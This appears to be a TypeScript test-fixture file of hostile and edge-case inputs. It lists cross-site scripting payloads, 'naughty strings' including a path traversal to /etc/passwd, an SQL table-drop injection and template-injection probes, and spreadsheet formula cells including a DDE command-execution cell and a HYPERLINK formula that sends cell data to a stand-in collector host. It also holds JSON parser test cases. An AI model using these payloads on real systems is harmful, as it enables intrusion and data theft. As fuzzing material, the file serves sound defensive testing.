/** Markup and addresses that run a script when inserted into a page unescaped. */
export const OWN_SCRIPTS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<style>@import "javascript:alert(1)";</style>',
  '<!--><script>alert(1)</script>-->',
  '</textarea></title></style><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Text that often breaks programs: control and format characters, scripts, formats, reserved words. */
export const OWN_NAUGHTY_STRINGS: readonly string[] = [
  'undefined',
  'null',
  '1e309',
  '0x7fffffff',
  'NaN',
  '\u0001\u0007\u001b\u007f',
  '\u00a0\u2003\u3000\ufeff',
  'a\u202eb\u202cc',
  'Z\u0351\u036b\u0343a\u0321l\u0334g\u0322o\u0349',
  'Ångström, Ångström',
  '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿',
  'الكلّ طويل، 中文字符, русский, עברית',
  'ﬁ ß İ ı ſ',
  '../../../etc/passwd',
  "' or 1=1; drop table content; --",
  '%s%n%d %00 ${7*7} <%= 7*7 %>',
  '<script>alert(1)</script>',
  'CON',
  'x'.repeat(150),
  '"\\\'`',
];

/** Cells that a spreadsheet would read as a formula. */
export const OWN_FORMULA_CELLS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://collector.example/?d="&A1,"open")',
  '+1+1',
  '-1+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '＝1+1',
  ';=1+1',
];

/** JSON documents, named like those of JSONTestSuite: y_ is valid, n_ is invalid, i_ is implementation-defined. */
export const OWN_JSON_FILES: Readonly<Record<string, string>> = {
  'y_own_empty_object.json': '{}',
  'y_own_nested.json': '{"a":[{"b":[null,true,-0.5e-3,"\\u00e9"]}]}',
  'y_own_spaces.json': ' {\n\t"a" : 1 } ',
  'n_own_trailing_comma.json': '{"a":1,}',
  'n_own_single_quotes.json': "{'a':1}",
  'n_own_unclosed.json': '{"a":[1,2',
  'n_own_leading_zero.json': '{"a":01}',
  'n_own_comment.json': '{"a":1}//',
  'n_own_control_character.json': '{"a":"\u0001"}',
  'i_own_huge_number.json': '{"a":1e9999}',
  'i_own_lone_surrogate.json': '{"a":"\\ud800"}',
};
